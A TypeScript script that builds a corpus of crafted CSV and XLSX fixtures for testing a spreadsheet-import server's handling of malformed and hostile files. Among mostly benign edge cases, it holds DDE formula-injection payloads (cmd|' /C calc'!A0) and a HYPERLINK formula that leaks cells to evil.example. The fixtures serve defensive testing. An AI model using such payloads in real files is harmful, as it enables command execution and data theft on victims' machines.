// The hostile-input corpus (issue 12): crafted CSV, XLSX and JSON bodies, each with how to send it and the
// outcome it must get (a correct import of N rows, or a named 4xx with nothing written). The small files are
// committed in test-fixtures/hostile with manifest.json; the large ones are written at test time.
// Run: node bin/run-ts.js scripts/make-hostile-corpus.ts            rewrites test-fixtures/hostile
//      node bin/run-ts.js scripts/make-hostile-corpus.ts --only xlsx/libreoffice/   rewrites those files only
//      node bin/run-ts.js scripts/make-hostile-corpus.ts --out DIR  writes the large files into DIR
// The xlsx/libreoffice files need LibreOffice (`soffice`, Debian's libreoffice-calc).
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import ExcelJS from 'exceljs'
import iconv from 'iconv-lite'
import { customerServicePayScheme } from '../src/core/pay/pay-scheme.ts'
import { zipBomb } from '../src/test-support/zip-bomb.ts'
import { zipOf } from '../src/test-support/zip-of.ts'

/** How an entry reaches the server: a file through upload + import job, or a JSON body to a route. */
export type HostileSend =
  | { via: 'upload'; kind?: string; shop?: string }
  | {
      via: 'json'
      method: 'POST' | 'PUT' | 'PATCH'
      /** `"{positionService}"`, `"{employeeE003}"` are replaced by the seeded organisation's ids. */
      route: string
      as: 'admin' | 'hr'
      /** The table whose row count must not change on a refusal (and grows by one on success). */
      table: string
      contentType?: string
    }

/** What must happen: rows imported (then undone by the test), or a 4xx with its status and message. */
export type HostileExpect =
  | {
      outcome: 'imported'
      rows: number
      table: string
      /** The values stored in one column, as text in any order (null for an empty cell). */
      values?: { column: string; values: (string | null)[] }
    }
  | { outcome: 'accepted'; status: number }
  | { outcome: '4xx'; status: number; message?: string }

export type HostileEntry = {
  file: string
  /** Written at test time by writeGeneratedCorpus (too large to commit). */
  generated?: boolean
  send: HostileSend
  expect: HostileExpect
  why: string
  /** Known to fail today (issue 12): what the server does instead. Skipped until the fix lands. */
  pending?: string
}

/**
 * The bytes, or a document that LibreOffice (soffice, Debian's libreoffice-calc) opens and saves as XLSX: a flat
 * ODS text, or an XLSX workbook (bytes) when the flat ODS cannot say it (see the hidden first sheet).
 */
type Content =
  | string
  | Buffer
  | (() => Promise<Buffer> | Buffer)
  | { libreOffice: string }
  | { libreOfficeFromXlsx: () => Promise<Buffer> }
type Item = HostileEntry & { content: Content }

const traffic = { via: 'upload', kind: 'traffic' } as const
const orders = { via: 'upload' } as const
const imported = (rows: number, table = 'fact_traffic') => ({ outcome: 'imported', rows, table }) as const
const importedWith = (rows: number, column: string, values: (string | null)[]) =>
  ({ outcome: 'imported', rows, table: 'fact_traffic', values: { column, values } }) as const
const refused = (message?: string, status = 400) =>
  ({ outcome: '4xx', status, ...(message ? { message } : {}) }) as const

const head = '日期,店铺,访客数,支付金额\n'
const ok = '2011-11-01,旗舰店,10,100.50\n2011-11-02,旗舰店,12,80\n'
const uciHeader = 'InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country\n'
const uci = (n: number, extra = '') =>
  `${uciHeader}${Array.from({ length: n }, (_, i) => `${800000 + i},85123A,HEART,6,2011-11-03 08:26:00,2.55,17850.0,United Kingdom\n`).join('')}${extra}`
const bom = Buffer.from([0xef, 0xbb, 0xbf])
const cat = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : p)))

// ---------------------------------------------------------------------------------------------------- CSV
const csv: Item[] = [
  {
    file: 'csv/plain.csv',
    content: head + ok,
    send: traffic,
    expect: importedWith(2, 'paid_amount', ['100.50', '80']),
    why: 'baseline',
  },
  {
    file: 'csv/bom-utf8.csv',
    content: cat(bom, head + ok),
    send: traffic,
    expect: imported(2),
    why: 'Excel “CSV UTF-8” writes a BOM',
  },
  {
    file: 'csv/bom-utf8-twice.csv',
    content: cat(bom, bom, head + ok),
    send: traffic,
    expect: imported(2),
    why: 'a BOM added twice by two tools; the second is not part of the first header',
  },
  {
    file: 'csv/bom-utf16le.csv',
    content: cat(Buffer.from([0xff, 0xfe]), iconv.encode(head + ok, 'utf-16le')),
    send: traffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'Excel “Unicode text” is UTF-16LE with a BOM',
  },
  {
    file: 'csv/bom-utf16be.csv',
    content: cat(Buffer.from([0xfe, 0xff]), iconv.encode(head + ok, 'utf-16be')),
    send: traffic,
    expect: imported(2),
    why: 'UTF-16BE with a BOM',
  },
  {
    file: 'csv/gbk.csv',
    content: iconv.encode(head + ok, 'gbk'),
    send: traffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'WPS and old Excel save CSV as GBK',
  },
  {
    file: 'csv/utf8-bom-then-gbk.csv',
    content: cat(bom, head, '2011-11-01,旗舰店,10,1\n', iconv.encode('2011-11-02,旗舰店,12,1\n', 'gbk')),
    send: traffic,
    expect: refused('not valid UTF-8'),
    why: 'mixed encodings: a UTF-8 file with a GBK row pasted in',
  },
  {
    file: 'csv/gbk-then-utf8.csv',
    content: cat(iconv.encode(head + ok, 'gbk'), '2011-11-03,旗舰店,12,1\n'),
    send: traffic,
    expect: refused(),
    why: 'mixed encodings: a GBK file with a UTF-8 row appended',
    pending: 'imports 3 rows: the UTF-8 row is decoded as GBK into mojibake (201)',
  },
  {
    file: 'csv/quote-unbalanced-last.csv',
    content: `${head}2011-11-01,"旗舰店,10,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a quoted field never closed',
  },
  {
    file: 'csv/quote-unbalanced-middle.csv',
    content: `${head}2011-11-01,旗"舰店,10,1\n2011-11-02,旗舰店,12,1\n`,
    send: traffic,
    expect: imported(2),
    why: 'a stray quote inside an unquoted field is read as the character Excel shows',
  },
  {
    file: 'csv/quote-orders.csv',
    content: uci(3, '800009,85123A,"HEART,6,2011-11-03 08:26:00,2.55,17850.0,United Kingdom\n'),
    send: orders,
    expect: refused('quote'),
    why: 'bulk COPY path: an unclosed quote',
  },
  {
    file: 'csv/formula-equals.csv',
    content: `${head}2011-11-01,=cmd|' /C calc'!A0,10,1\n`,
    send: traffic,
    expect: refused('formula'),
    why: 'DDE formula injection (=)',
  },
  {
    file: 'csv/formula-plus.csv',
    content: `${head}2011-11-01,+cmd|' /C calc'!A0,10,1\n`,
    send: traffic,
    expect: refused('formula'),
    why: 'formula injection with a leading +',
  },
  {
    file: 'csv/formula-minus.csv',
    content: `${head}2011-11-01,-2+3+cmd|' /C calc'!A0,10,1\n`,
    send: traffic,
    expect: refused('formula'),
    why: 'formula injection with a leading -',
    pending: 'imports the formula text -2+3+cmd|… (201)',
  },
  {
    file: 'csv/formula-at.csv',
    content: `${head}2011-11-01,@SUM(1+1)*cmd|' /C calc'!A0,10,1\n`,
    send: traffic,
    expect: refused('formula'),
    why: 'formula injection with a leading @',
  },
  {
    file: 'csv/formula-hyperlink.csv',
    content: `${head}2011-11-01,"=HYPERLINK(""http://evil.example/?""&A1,""点我"")",10,1\n`,
    send: traffic,
    expect: refused('formula'),
    why: 'a HYPERLINK formula that leaks cells when the export is opened',
  },
  {
    file: 'csv/formula-orders.csv',
    content: uci(2, "800009,85123A,=cmd|' /C calc'!A0,6,2011-11-03 08:26:00,2.55,17850.0,United Kingdom\n"),
    send: orders,
    expect: refused('formula'),
    why: 'bulk COPY path: formula text',
  },
  {
    file: 'csv/nul-in-cell.csv',
    content: `${head}2011-11-01,旗舰\0店,10,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a NUL byte inside a text cell (PostgreSQL text cannot hold it)',
  },
  {
    file: 'csv/nul-in-orders.csv',
    content: uci(2, '800009,85123A,HE\0ART,6,2011-11-03 08:26:00,2.55,17850.0,United Kingdom\n'),
    send: orders,
    expect: refused(),
    why: 'bulk COPY path: a NUL byte',
  },
  {
    file: 'csv/nul-bytes-only.csv',
    content: Buffer.alloc(4096, 0),
    send: traffic,
    expect: refused(),
    why: 'a file of NUL bytes',
  },
  {
    file: 'csv/crlf.csv',
    content: (head + ok).replace(/\n/g, '\r\n'),
    send: traffic,
    expect: imported(2),
    why: 'Windows line ends',
  },
  {
    file: 'csv/cr-only.csv',
    content: (head + ok).replace(/\n/g, '\r'),
    send: traffic,
    expect: imported(2),
    why: 'old Mac line ends (CR only)',
  },
  {
    file: 'csv/mixed-line-ends.csv',
    content: `日期,店铺,访客数,支付金额\r\n2011-11-01,旗舰店,10,1\n2011-11-02,旗舰店,12,1\r\n`,
    send: traffic,
    expect: imported(2),
    why: 'CRLF and LF in one file (rows pasted from two tools)',
  },
  {
    file: 'csv/long-header.csv',
    content: `日期,店铺,访客数,${Array.from({ length: 3000 }, (_, i) => `列${i}`).join(',')}\n2011-11-01,旗舰店,10\n`,
    send: traffic,
    expect: refused(),
    why: 'a header of 3,003 columns (the rows have 3)',
  },
  {
    file: 'csv/generated/long-header-cell.csv',
    generated: true,
    content: `日期,店铺,访客数,${'长'.repeat(60_000)}\n2011-11-01,旗舰店,10,1\n`,
    send: traffic,
    expect: refused(),
    why: 'one header cell of 60,000 characters',
  },
  {
    file: 'csv/duplicate-headers.csv',
    content: `日期,店铺,访客数,访客数\n2011-11-01,旗舰店,10,11\n`,
    send: traffic,
    expect: refused(),
    why: 'two columns map to the same field: which one wins would be a guess',
    pending: 'imports 1 row: one of the two 访客数 columns is taken silently (201)',
  },
  {
    file: 'csv/header-only.csv',
    content: head,
    send: traffic,
    expect: refused(),
    why: 'a header and no rows',
  },
  {
    file: 'csv/summary-rows.csv',
    content: `${head}${ok}合计,,22,180.50\n平均值,,11,90.25\n`,
    send: traffic,
    expect: imported(2),
    why: 'platform exports end with 合计/平均值 rows that are not data',
  },
  {
    file: 'csv/number-1e308.csv',
    content: `${head}2011-11-01,旗舰店,10,1e308\n`,
    send: traffic,
    expect: refused(),
    why: 'an absurd amount must not reach GMV',
    pending: 'imports 1e308 as the paid amount (201)',
  },
  {
    file: 'csv/number-overflow.csv',
    content: `${head}2011-11-01,旗舰店,10,1e309\n`,
    send: traffic,
    expect: refused(),
    why: 'a number past double range (Infinity in JavaScript)',
    pending: 'imports 1e309 as the paid amount (201)',
  },
  {
    file: 'csv/number-nan.csv',
    content: `${head}2011-11-01,旗舰店,NaN,1\n`,
    send: traffic,
    expect: refused(),
    why: 'NaN is not a count',
  },
  {
    file: 'csv/number-infinity.csv',
    content: `${head}2011-11-01,旗舰店,10,Infinity\n`,
    send: traffic,
    expect: refused(),
    why: 'Infinity is not an amount',
  },
  {
    file: 'csv/number-negative-zero.csv',
    content: `${head}2011-11-01,旗舰店,-0,-0\n`,
    send: traffic,
    expect: importedWith(1, 'uv', ['0']),
    why: '-0 is zero',
  },
  {
    file: 'csv/number-negative-visitors.csv',
    content: `${head}2011-11-01,旗舰店,-10,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a count cannot be negative',
  },
  {
    file: 'csv/number-huge-count.csv',
    content: `${head}2011-11-01,旗舰店,99999999999999999999999,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a visitor count past bigint',
    pending: '500 “the import failed on the server” (bigint overflow)',
  },
  {
    file: 'csv/number-thousands.csv',
    content: `${head}2011-11-01,旗舰店,"1,234","1,234.5"\n`,
    send: traffic,
    expect: importedWith(1, 'paid_amount', ['1234.5']),
    why: 'thousands separators as Excel writes them (1,234.5)',
  },
  {
    file: 'csv/number-european.csv',
    content: `${head}2011-11-01,旗舰店,10,"1.234,5"\n`,
    send: traffic,
    expect: refused(),
    why: '1.234,5 (German notation) is ambiguous and must not become 1.2345',
  },
  {
    file: 'csv/number-fullwidth.csv',
    content: `${head}2011-11-01,旗舰店,１２,１００\n`,
    send: traffic,
    expect: importedWith(1, 'paid_amount', ['100']),
    why: 'full-width digits typed on a Chinese IME read as digits',
  },
  {
    file: 'csv/dates-odd.csv',
    content: `${head}2011/11/1,旗舰店,1,1\n2011年11月2日,旗舰店,2,2\n2011.11.03,旗舰店,3,3\n`,
    send: traffic,
    expect: importedWith(3, 'date', ['2011-11-01', '2011-11-02', '2011-11-03']),
    why: 'dates as 2011/11/1, 2011年11月2日, 2011.11.03',
  },
  {
    file: 'csv/date-impossible.csv',
    content: `${head}2011-02-30,旗舰店,1,1\n`,
    send: traffic,
    expect: refused('2011-02-30'),
    why: 'no 30 February',
  },
  {
    file: 'csv/date-ambiguous-us.csv',
    content: `${head}11/04/2011,旗舰店,1,1\n`,
    send: traffic,
    expect: refused(),
    why: '11/04/2011 is 4 November or 11 April: refuse rather than guess',
  },
  {
    file: 'csv/date-garbage.csv',
    content: `${head}昨天,旗舰店,1,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a date column holding text',
  },
  {
    file: 'csv/date-year-99999.csv',
    content: `${head}99999-01-01,旗舰店,1,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a five-digit year',
  },
  {
    file: 'csv/emoji.csv',
    content: `${head}2011-11-01,🛍️旗舰店👩‍👩‍👧,10,1\n`,
    send: traffic,
    expect: importedWith(1, 'shop', ['🛍️旗舰店👩‍👩‍👧']),
    why: 'emoji (astral and ZWJ sequences) in a shop name',
  },
  {
    file: 'csv/rtl.csv',
    content: `${head}2011-11-01,متجر\u202Eكبير,10,1\n`,
    send: traffic,
    expect: importedWith(1, 'shop', ['متجر\u202Eكبير']),
    why: 'Arabic and a right-to-left override in a shop name',
  },
  {
    file: 'csv/zero-width-header.csv',
    content: `日\u200B期,店铺,访客数\n2011-11-01,旗舰店,10\n`,
    send: traffic,
    expect: refused(),
    why: 'a zero-width space inside the date header: no date column',
  },
  {
    file: 'csv/zero-width-value.csv',
    content: `${head}2011-11-01,旗舰\u200B店,10\u200B,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a zero-width space inside a number',
  },
  {
    file: 'csv/empty.csv',
    content: '',
    send: traffic,
    expect: refused('empty'),
    why: 'zero bytes',
  },
  {
    file: 'csv/bom-only.csv',
    content: bom,
    send: traffic,
    expect: refused(),
    why: 'a BOM and nothing else',
  },
  {
    file: 'csv/blank-lines.csv',
    content: '\n'.repeat(2000),
    send: traffic,
    expect: refused(),
    why: 'blank lines only',
  },
  {
    file: 'csv/binary-junk.csv',
    content: Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 7919 + 13) % 256)),
    send: traffic,
    expect: refused(),
    why: 'binary bytes named .csv',
  },
  {
    file: 'csv/html-disguised.csv',
    content: '<html><body><table><tr><td>日期</td></tr></table></body></html>\n',
    send: traffic,
    expect: refused(),
    why: 'an HTML page saved as .csv',
  },
  {
    file: 'csv/semicolons.csv',
    content: '日期;店铺;访客数\n2011-11-01;旗舰店;10\n',
    send: traffic,
    expect: refused(),
    why: 'semicolon-separated (European Excel): one column, no date header',
  },
  {
    file: 'csv/extra-columns-row.csv',
    content: `${head}2011-11-01,旗舰店,10,1,多余\n`,
    send: traffic,
    expect: refused('columns'),
    why: 'a row wider than the header',
  },
  {
    file: 'csv/generated/long-cell.csv',
    generated: true,
    content: `${head}2011-11-01,${'店'.repeat(200_000)},10,1\n`,
    send: traffic,
    expect: refused(),
    why: 'a 600 KB shop name',
  },
  {
    file: 'csv/duplicate-key.csv',
    content: `${head}2011-11-01,旗舰店,10,1\n2011/11/1,旗舰店,11,1\n`,
    send: traffic,
    expect: refused('duplicate key'),
    why: 'the same shop and day twice',
  },
  {
    file: 'csv/orders-plain.csv',
    content: uci(4),
    send: orders,
    expect: imported(4, 'fact_order_lines'),
    why: 'baseline order lines (bulk COPY path)',
  },
  {
    file: 'csv/orders-negative-qty.csv',
    content: uci(2, '800009,85123A,HEART,-6,2011-11-03 08:26:00,2.55,17850.0,United Kingdom\n'),
    send: orders,
    expect: refused('negative quantity'),
    why: 'a negative quantity that is no cancellation',
  },
  {
    file: 'csv/orders-price-1e308.csv',
    content: uci(2, '800009,85123A,HEART,6,2011-11-03 08:26:00,1e308,17850.0,United Kingdom\n'),
    send: orders,
    expect: refused(),
    why: 'an absurd unit price must not reach GMV',
    pending: 'imports a unit price of 1e308 (201)',
  },
  {
    file: 'csv/xlsx-named-csv.csv',
    content: async () => workbook([['日期', '店铺', '访客数', '支付金额'], ...okRows()]),
    send: traffic,
    expect: imported(2),
    why: 'wrong extension: a workbook named .csv is read by its bytes',
  },
]

// --------------------------------------------------------------------------------------------------- XLSX
type Cell = ExcelJS.CellValue
const okRows = (): Cell[][] => [
  ['2011-11-01', '旗舰店', 10, 100.5],
  ['2011-11-02', '旗舰店', 12, 80],
]
const header: Cell[] = ['日期', '店铺', '访客数', '支付金额']

async function workbook(rows: Cell[][], edit?: (wb: ExcelJS.Workbook, ws: ExcelJS.Worksheet) => void) {
  const wb = new ExcelJS.Workbook()
  wb.created = wb.modified = new Date('2026-12-01T00:00:00Z')
  const ws = wb.addWorksheet('Sheet1')
  for (const r of rows) ws.addRow(r)
  edit?.(wb, ws)
  return Buffer.from(await wb.xlsx.writeBuffer())
}

const ns = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
/** The parts of a minimal workbook whose text cells are shared strings (or inline strings). */
function handParts(options: { inline?: boolean; styles?: boolean }) {
  const strings = ['日期', '店铺', '访客数', '支付金额', '旗舰店', '2011-11-01', '2011-11-02']
  const s = (text: string, ref: string) =>
    options.inline
      ? `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`
      : `<c r="${ref}" t="s"><v>${strings.indexOf(text)}</v></c>`
  const n = (v: number, ref: string) => `<c r="${ref}"><v>${v}</v></c>`
  const sheet = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="${ns}"><sheetData>
<row r="1">${s('日期', 'A1')}${s('店铺', 'B1')}${s('访客数', 'C1')}${s('支付金额', 'D1')}</row>
<row r="2">${s('2011-11-01', 'A2')}${s('旗舰店', 'B2')}${n(10, 'C2')}${n(100.5, 'D2')}</row>
<row r="3">${s('2011-11-02', 'A3')}${s('旗舰店', 'B3')}${n(12, 'C3')}${n(80, 'D3')}</row>
</sheetData></worksheet>`
  const shared = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="${ns}" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((t) => `<si><t>${t}</t></si>`).join('')}</sst>`
  const styles = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="${ns}"><fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders><cellXfs count="1"><xf/></cellXfs></styleSheet>`
  const types = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>${options.inline ? '' : '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'}${options.styles ? '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>' : ''}</Types>`
  const rootRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`
  const wbXml = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="${ns}" xmlns:r="${rel}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`
  const wbRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/>${options.inline ? '' : `<Relationship Id="rId2" Type="${rel}/sharedStrings" Target="sharedStrings.xml"/>`}${options.styles ? `<Relationship Id="rId3" Type="${rel}/styles" Target="styles.xml"/>` : ''}</Relationships>`
  return { sheet, shared, styles, types, rootRels, wbXml, wbRels }
}

const xlsxTraffic = traffic
const xlsx: Item[] = [
  {
    file: 'xlsx/plain.xlsx',
    content: () => workbook([header, ...okRows()]),
    send: xlsxTraffic,
    expect: imported(2),
    why: 'baseline written by ExcelJS',
  },
  {
    file: 'xlsx/empty-workbook.xlsx',
    content: () => workbook([]),
    send: xlsxTraffic,
    expect: refused(),
    why: 'one sheet, no cells',
  },
  {
    file: 'xlsx/header-only.xlsx',
    content: () => workbook([header]),
    send: xlsxTraffic,
    expect: refused(),
    why: 'a header and no rows',
  },
  {
    file: 'xlsx/hidden-first-sheet.xlsx',
    content: async () => {
      const wb = new ExcelJS.Workbook()
      wb.created = wb.modified = new Date('2026-12-01T00:00:00Z')
      const hidden = wb.addWorksheet('旧数据', { state: 'hidden' })
      hidden.addRow(header)
      hidden.addRow(['2011-10-01', '旗舰店', 1, 1])
      hidden.addRow(['2011-10-02', '旗舰店', 1, 1])
      hidden.addRow(['2011-10-03', '旗舰店', 1, 1])
      const ws = wb.addWorksheet('Sheet1')
      for (const r of [header, ...okRows()]) ws.addRow(r)
      return Buffer.from(await wb.xlsx.writeBuffer())
    },
    send: xlsxTraffic,
    expect: imported(2),
    why: 'a hidden sheet before the visible one: the user sees and means the visible sheet',
  },
  {
    file: 'xlsx/merged-cells.xlsx',
    content: () =>
      workbook([header, ['2011-11-01', '旗舰店', 10, 1], ['2011-11-02', null, 12, 1]], (_wb, ws) =>
        ws.mergeCells('B2:B3'),
      ),
    send: xlsxTraffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'a shop merged over two rows applies to both',
  },
  {
    file: 'xlsx/formula-cells.xlsx',
    content: () => workbook([header, ['2011-11-01', '旗舰店', { formula: '5+5', result: 10 }, 1]]),
    send: xlsxTraffic,
    expect: refused('formula'),
    why: 'a formula cell is refused with its row and column (its cached result may be stale)',
  },
  {
    file: 'xlsx/formula-dde.xlsx',
    content: () =>
      workbook([header, ['2011-11-01', { formula: "cmd|' /C calc'!A0", result: '旗舰店' }, 10, 1]]),
    send: xlsxTraffic,
    expect: refused('formula'),
    why: 'DDE formula injection in a workbook',
  },
  {
    file: 'xlsx/error-cells.xlsx',
    content: () => workbook([header, ['2011-11-01', '旗舰店', { error: '#DIV/0!' }, 1]]),
    send: xlsxTraffic,
    expect: refused(),
    why: 'an error cell (#DIV/0!) is no number',
  },
  {
    file: 'xlsx/date-cells.xlsx',
    content: () =>
      workbook([
        header,
        [new Date(Date.UTC(2011, 10, 1)), '旗舰店', 10, 1],
        [new Date(Date.UTC(2011, 10, 2)), '旗舰店', 12, 1],
      ]),
    send: xlsxTraffic,
    expect: imported(2),
    why: 'real date cells',
  },
  {
    file: 'xlsx/rich-text.xlsx',
    content: () =>
      workbook([
        header,
        ['2011-11-01', { richText: [{ text: '旗舰', font: { bold: true } }, { text: '店' }] }, 10, 1],
        [{ richText: [{ text: '2011-11-02' }] }, '旗舰店', 12, 1],
      ]),
    send: xlsxTraffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'rich text cells must read as their text, never [object Object]',
  },
  {
    file: 'xlsx/hyperlink-cells.xlsx',
    content: () =>
      workbook([header, ['2011-11-01', { text: '旗舰店', hyperlink: 'https://shop.example/' }, 10, 1]]),
    send: xlsxTraffic,
    expect: importedWith(1, 'shop', ['旗舰店']),
    why: 'a hyperlink cell reads as its text',
  },
  {
    file: 'xlsx/boolean-count.xlsx',
    content: () => workbook([header, ['2011-11-01', '旗舰店', true, 1]]),
    send: xlsxTraffic,
    expect: refused(),
    why: 'TRUE is not a visitor count',
  },
  {
    file: 'xlsx/numbers-as-text.xlsx',
    content: () => workbook([header, ['2011-11-01', '旗舰店', '10', '1,234.50']]),
    send: xlsxTraffic,
    expect: imported(1),
    why: 'numbers stored as text (the green triangle)',
  },
  {
    file: 'xlsx/banner-and-summary.xlsx',
    content: () =>
      workbook([['店铺经营报表'], ['导出时间：2011-12-01'], header, ...okRows(), ['合计', '', 22, 180.5]]),
    send: xlsxTraffic,
    expect: imported(2),
    why: 'title rows above the header and a 合计 row below',
  },
  {
    file: 'xlsx/shared-strings-after-sheet-no-styles.xlsx',
    content: () => {
      const p = handParts({})
      return zipOf([
        ['[Content_Types].xml', p.types],
        ['_rels/.rels', p.rootRels],
        ['xl/workbook.xml', p.wbXml],
        ['xl/_rels/workbook.xml.rels', p.wbRels],
        ['xl/worksheets/sheet1.xml', p.sheet],
        ['xl/sharedStrings.xml', p.shared],
      ])
    },
    send: xlsxTraffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'issue 12.3: shared strings after the sheet and no styles part (a streaming writer’s order)',
  },
  {
    file: 'xlsx/shared-strings-first-no-styles.xlsx',
    content: () => {
      const p = handParts({})
      return zipOf([
        ['xl/sharedStrings.xml', p.shared],
        ['[Content_Types].xml', p.types],
        ['_rels/.rels', p.rootRels],
        ['xl/workbook.xml', p.wbXml],
        ['xl/_rels/workbook.xml.rels', p.wbRels],
        ['xl/worksheets/sheet1.xml', p.sheet],
      ])
    },
    send: xlsxTraffic,
    expect: imported(2),
    why: 'shared strings first, no styles part',
  },
  {
    file: 'xlsx/shared-strings-after-sheet-with-styles.xlsx',
    content: () => {
      const p = handParts({ styles: true })
      return zipOf([
        ['[Content_Types].xml', p.types],
        ['_rels/.rels', p.rootRels],
        ['xl/workbook.xml', p.wbXml],
        ['xl/_rels/workbook.xml.rels', p.wbRels],
        ['xl/worksheets/sheet1.xml', p.sheet],
        ['xl/styles.xml', p.styles],
        ['xl/sharedStrings.xml', p.shared],
      ])
    },
    send: xlsxTraffic,
    expect: imported(2),
    why: 'styles and shared strings both after the sheet',
  },
  {
    file: 'xlsx/inline-strings.xlsx',
    content: () => {
      const p = handParts({ inline: true })
      return zipOf([
        ['[Content_Types].xml', p.types],
        ['_rels/.rels', p.rootRels],
        ['xl/workbook.xml', p.wbXml],
        ['xl/_rels/workbook.xml.rels', p.wbRels],
        ['xl/worksheets/sheet1.xml', p.sheet],
      ])
    },
    send: xlsxTraffic,
    expect: importedWith(2, 'shop', ['旗舰店', '旗舰店']),
    why: 'inline strings (t="inlineStr"), as some exporters write',
  },
  {
    file: 'xlsx/junk-appended.xlsx',
    content: async () => cat(await workbook([header, ...okRows()]), Buffer.alloc(1024, 0x41)),
    send: xlsxTraffic,
    expect: imported(2),
    why: 'bytes after the ZIP directory (a download tool’s padding): the workbook is still whole',
  },
  {
    file: 'xlsx/junk-prepended.xlsx',
    content: async () => cat(Buffer.alloc(1024, 0x41), await workbook([header, ...okRows()])),
    send: xlsxTraffic,
    expect: refused(),
    why: 'bytes before the ZIP (a self-extractor stub): not an XLSX',
  },
  {
    file: 'xlsx/truncated.xlsx',
    content: async () => {
      const whole = await workbook([header, ...okRows()])
      return whole.subarray(0, Math.floor(whole.length * 0.6))
    },
    send: xlsxTraffic,
    expect: refused('truncated'),
    why: 'a download cut off',
  },
  {
    file: 'xlsx/not-a-workbook.xlsx',
    content: () => zipOf([['readme.txt', '这不是工作簿']]),
    send: xlsxTraffic,
    expect: refused('not an XLSX'),
    why: 'a ZIP that holds no workbook',
  },
  {
    file: 'xlsx/workbook-without-sheets.xlsx',
    content: () => {
      const p = handParts({})
      return zipOf([
        ['[Content_Types].xml', p.types],
        ['_rels/.rels', p.rootRels],
        ['xl/workbook.xml', `<?xml version="1.0"?><workbook xmlns="${ns}"><sheets/></workbook>`],
      ])
    },
    send: xlsxTraffic,
    expect: refused(),
    why: 'a workbook part listing no sheets',
  },
  {
    file: 'xlsx/random-bytes.xlsx',
    content: Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 31 + 7) % 256)),
    send: xlsxTraffic,
    expect: refused(),
    why: 'random bytes named .xlsx',
  },
  {
    file: 'xlsx/csv-named-xlsx.xlsx',
    content: head + ok,
    send: xlsxTraffic,
    expect: imported(2),
    why: 'wrong extension: a CSV named .xlsx is read by its bytes',
  },
  {
    file: 'xlsx/old-xls.xlsx',
    content: cat(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)),
    send: xlsxTraffic,
    expect: refused('.xls'),
    why: 'an old BIFF .xls renamed',
  },
  {
    file: 'xlsx/nul-in-cell.xlsx',
    // ExcelJS drops a NUL it is given; Excel writes it as OOXML's escape _x0000_, as here.
    content: () => workbook([header, ['2011-11-01', '旗舰_x0000_店', 10, 1]]),
    send: xlsxTraffic,
    expect: refused(),
    why: 'a NUL character inside a workbook string (written as Excel writes it, _x0000_)',
  },
  {
    file: 'xlsx/number-1e308.xlsx',
    content: () => workbook([header, ['2011-11-01', '旗舰店', 10, 1e308]]),
    send: xlsxTraffic,
    expect: refused(),
    why: 'an absurd amount in a numeric cell',
    pending: 'imports 1e308 as the paid amount (201)',
  },
]

// ------------------------------------------------------------------------------ workbooks saved by LibreOffice
const fodsNs = [
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"',
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"',
  'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
  'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"',
  'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"',
  'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"',
  'xmlns:number="urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0"',
].join(' ')
type FodsCell = string | number | { date: string } | { xml: string }
